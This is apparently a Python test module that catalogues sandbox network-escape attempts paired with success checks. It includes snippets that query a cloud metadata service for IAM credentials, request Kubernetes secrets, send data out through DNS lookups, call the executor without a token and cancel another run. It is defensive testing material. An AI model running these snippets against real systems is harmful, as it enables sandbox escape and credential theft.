"""Out of the sandbox's own network namespace: addresses, sockets in the file system, and the executor itself."""

from tests.security.attempts.model import Attempt, Outcome
from tests.security.attempts.snippets import EVENT, FACTS, Effect, leaked, soon
from tests.security.attempts.world import World

INTRUDER = "exec_20260115_intruder"

HTTP = """
import json, urllib.error, urllib.request
def ask(url, method="GET", body=None, timeout=20):
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data, {"Content-Type": "application/json"}, method=method)
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=timeout) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.read().decode()
"""


def reached(*listeners: str) -> Effect:
    """Something came to one of these listeners."""
    return lambda world, _outcome: world.reached(*listeners)


def _answered_by_executor(_world: World, outcome: Outcome) -> bool:
    """Only ``GET /health`` says this."""
    return '"uptime_seconds":' in str(outcome.result["return_value"])


def _intruded(world: World, _outcome: Outcome) -> bool:
    return INTRUDER in world.executions


def _ended_other(world: World, _outcome: Outcome) -> bool:
    return not world.other_runs()


def _called_control_plane(world: World, _outcome: Outcome) -> bool:
    """The executor never asks for this path."""
    return any(call.path == "/attacked" for call in world.control_plane.calls)


def _host_answered(world: World, _outcome: Outcome) -> bool:
    return world.answered()


def _sent_descriptors(world: World, _outcome: Outcome) -> bool:
    world.reached()
    return world.listeners.descriptors > 0


def _shows_address(world: World, outcome: Outcome) -> bool:
    return world.facts()["dns_address"] in (outcome.result["return_value"] or [])


def _shows_executor_socket(world: World, outcome: Outcome) -> bool:
    return f":{world.facts()['executor_port']:04X} " in outcome.result["stdout"]


def _returned_reply(_world: World, outcome: Outcome) -> bool:
    """An ICMP echo reply (type 0) that the kernel made; the code sent type 8."""
    return bool(outcome.result["return_value"] == [0, "asked"])


def _captured(_world: World, outcome: Outcome) -> bool:
    return bool(outcome.result["return_value"] == "passing by")


ADDRESSES = (
    Attempt(
        "network/tcp-on-loopback",
        "python",
        """
import socket
def handler(event):
    for address in ("127.0.0.1", "0.0.0.0"):
        try:
            socket.create_connection((address, event["tcp_port"]), 3).sendall(b"out")
        except OSError:
            pass
""",
        reached("tcp"),
        without=("net",),
    ),
    Attempt(
        "network/tcp-over-ipv6",
        "javascript",
        EVENT
        + """
const socket = require('net').connect(event.tcp6_port, '::1', () => socket.end('out', () => socket.destroy()))
socket.on('error', error => console.log(error.code))
""",
        reached("tcp6"),
        without=("net",),
    ),
    Attempt(
        "network/udp",
        "shell",
        FACTS + 'echo out > "/dev/udp/127.0.0.1/$(fact udp_port)"',
        reached("udp"),
        without=("net",),
    ),
    Attempt(
        "network/udp-over-ipv6",
        "python",
        """
import socket
def handler(event):
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"out", ("::1", event["udp6_port"]))
""",
        reached("udp6"),
        without=("net",),
    ),
    Attempt(
        "network/name-lookup",
        "python",
        """
import socket
def handler(event):
    # Without a resolv.conf the library asks the name server on this machine (resolver(3)).
    socket.getaddrinfo("secret-goes-here.example.test", 80)
""",
        reached("resolver"),
        without=("net",),
        request={"timeout": 4},  # the library would wait longer for an answer
    ),
    Attempt(
        "network/dns-server-of-the-cluster",
        "javascript",
        EVENT
        + """
const resolver = new (require('dns').Resolver)({ timeout: 500, tries: 1 })
resolver.setServers([event.dns_address])
resolver.resolve4('secret-goes-here.example.test', error => console.log(String(error)))
""",
        reached("dns"),
        without=("net",),
    ),
    Attempt(
        "network/metadata-service",
        "shell",
        FACTS
        + """
exec 4<> "/dev/tcp/$(fact metadata_address)/80" || exit
printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n' >&4
""",
        reached("metadata"),
        without=("net",),
    ),
    Attempt(
        "network/api-server",
        "javascript",
        EVENT
        + """
const options = { host: event.api_server_address, port: 443, timeout: 500, rejectUnauthorized: false }
const request = require('https').get({ ...options, path: '/api/v1/secrets' })
request.on('error', error => console.log(error.code)).on('timeout', () => request.destroy())
""",
        reached("api_server"),
        without=("net",),
    ),
    Attempt(
        "network/port-that-the-host-calls",
        "python",
        """
import socket
def handler(event):
    listener = socket.create_server(("0.0.0.0", event["knocked_port"]))
    listener.settimeout(event["patience_s"])
    return listener.accept()[0].recv(100).decode()
""",
        _host_answered,
        without=("net",),
    ),
)

EXECUTOR = (
    Attempt(
        "network/executors-own-port",
        "python",
        HTTP
        + """
def handler(event):
    return ask(f"http://127.0.0.1:{event['executor_port']}/health")
""",
        _answered_by_executor,
        without=("net",),
    ),
    Attempt(
        "network/executors-port-by-guessing",
        "python",
        HTTP
        + """
import socket
def handler(event):
    for port in (8080, *range(32768, 61000)):
        with socket.socket() as guess:
            guess.settimeout(5)
            if guess.connect_ex(("127.0.0.1", port)) != 0:
                continue
        try:
            body = ask(f"http://127.0.0.1:{port}/health", timeout=5)
        except OSError:
            continue
        if "isolation" in body:
            return body
""",
        _answered_by_executor,
        without=("net",),
        request={"timeout": 60},
    ),
    Attempt(
        "network/execute-without-a-token",
        "javascript",
        EVENT
        + f"""
const body = JSON.stringify({{ code: 'def handler(event): pass', language: 'python', execution_id: '{INTRUDER}' }})
const headers = {{ 'Content-Type': 'application/json', Authorization: 'Bearer guessed' }}
fetch(`http://127.0.0.1:${{event.executor_port}}/execute`, {{ method: 'POST', body, headers }})
  .then(async answer => console.log(answer.status, await answer.text()), error => console.log(String(error)))
""",
        _intruded,
        without=("net", "execute_token"),
    ),
    Attempt(
        "network/cancel-the-neighbour",
        "shell",
        FACTS
        + """
exec 4<> "/dev/tcp/127.0.0.1/$(fact executor_port)" || exit
printf 'DELETE /executions/%s HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' "$(fact other_execution_id)" >&4
cat <&4
""",
        soon(_ended_other),
        without=("net", "execute_token"),
    ),
    Attempt(
        "network/control-plane",
        "python",
        HTTP + "def handler(event): return ask(event['control_plane_url'] + '/attacked')",
        _called_control_plane,
        without=("net",),
    ),
)

UNIX = (
    Attempt(
        "network/abstract-socket",
        "python",
        """
import socket
def handler(event):
    with socket.socket(socket.AF_UNIX) as caller:
        caller.connect("\\0" + event["abstract_socket"])
        caller.sendall(b"out")
""",
        reached("abstract"),
        without=("net",),
    ),
    Attempt(
        "network/abstract-datagram-socket",
        "python",
        """
import socket
def handler(event):
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"out", "\\0" + event["abstract_datagram_socket"])
""",
        reached("abstract_datagram"),
        without=("net",),
    ),
    Attempt(
        "network/abstract-socket-that-the-host-calls",
        "python",
        """
import socket
def handler(event):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0" + event["knocked_abstract_socket"])
    listener.listen()
    listener.settimeout(event["patience_s"])
    return listener.accept()[0].recv(100).decode()
""",
        leaked("knock"),
        without=("net",),
    ),
    Attempt(
        "network/descriptors-to-the-host",
        "python",
        """
import os, socket
def handler(event):
    # Whoever gets the directory's descriptor can reach the workspace after the run, and be led through it.
    with socket.socket(socket.AF_UNIX) as caller:
        caller.connect("\\0" + event["abstract_socket"])
        socket.send_fds(caller, [b"take"], [os.open("/workspace", os.O_RDONLY), 1])
""",
        _sent_descriptors,
        without=("net",),
    ),
    Attempt(
        "network/socket-in-the-file-system",
        "javascript",
        EVENT
        + """
const socket = require('net').connect(event.socket_path, () => socket.end('out', () => socket.destroy()))
socket.on('error', error => console.log(error.code))
""",
        reached("path"),
        without=("mount",),
    ),
    Attempt(
        "network/socket-beside-the-workspace",
        "python",
        """
import os, socket
def handler(event):
    os.symlink(event["workspaces_path"], "neighbours")
    paths = [event["workspaces_socket_path"], "neighbours/listener.sock", "../listener.sock"]
    paths += ["/proc/self/cwd/../listener.sock", "/proc/1/root" + event["workspaces_socket_path"]]
    for path in paths:
        try:
            with socket.socket(socket.AF_UNIX) as caller:
                caller.connect(path)
                caller.sendall(b"out")
        except OSError as error:
            print(path, error)
""",
        reached("workspaces_path"),
        without=("mount",),
    ),
)

KINDS = (
    Attempt(
        "network/interfaces-by-netlink",
        "python",
        """
import socket, struct
def handler(event):
    asked = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    asked.settimeout(2)
    # RTM_GETADDR, NLM_F_REQUEST | NLM_F_DUMP (rtnetlink(7)); then every IPv4 address of the answer.
    asked.send(struct.pack("IHHII", 24, 22, 0x301, 1, 0) + struct.pack("BBBBi", socket.AF_INET, 0, 0, 0, 0))
    answer, found, at = asked.recv(65536), [], 0
    while at + 32 <= len(answer):
        length, at_attribute = struct.unpack_from("I", answer, at)[0], at + 24
        size, kind = struct.unpack_from("HH", answer, at_attribute)
        found.append(socket.inet_ntoa(answer[at_attribute + 4 : at_attribute + 8]))
        at += length
    return found
""",
        _shows_address,
        without=("net", "seccomp"),
    ),
    Attempt(
        "network/sockets-by-proc",
        "shell",
        "cat /proc/net/tcp /proc/self/net/tcp /proc/1/net/tcp",
        _shows_executor_socket,
        without=("net",),
    ),
    Attempt(
        "network/raw-socket",
        "python",
        """
import socket, struct
def handler(event):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    raw.settimeout(2)
    body = b"asked"
    unsummed = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + body + b"\\0"
    total = sum(struct.unpack(f"!{len(unsummed) // 2}H", unsummed))
    total = (total & 0xFFFF) + (total >> 16)
    raw.sendto(struct.pack("!BBHHH", 8, 0, ~total & 0xFFFF, 7, 1) + body, ("127.0.0.1", 0))
    for _ in range(4):
        packet = raw.recv(1000)
        if packet[20] == 0:
            return [packet[20], packet[28:].decode()]
""",
        _returned_reply,
        without=("capabilities", "second_userns", "userns_lock", "seccomp"),
    ),
    Attempt(
        "network/packet-socket",
        "python",
        """
import socket
def handler(event):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    tap.settimeout(2)
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.sendto(b"passing " + b"by", receiver.getsockname())
    return tap.recv(1000)[28:].decode()
""",
        _captured,
        without=("capabilities", "second_userns", "userns_lock", "seccomp"),
    ),
    Attempt(
        "network/vsock-to-the-machines-host",
        "python",
        """
import socket
def handler(event):
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as caller:
        caller.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
        return caller.getsockname()
""",
        lambda _world, outcome: isinstance(outcome.result["return_value"], list),
        unproved="not every machine's kernel has this family of sockets",
    ),
)

ATTEMPTS = ADDRESSES + EXECUTOR + UNIX + KINDS
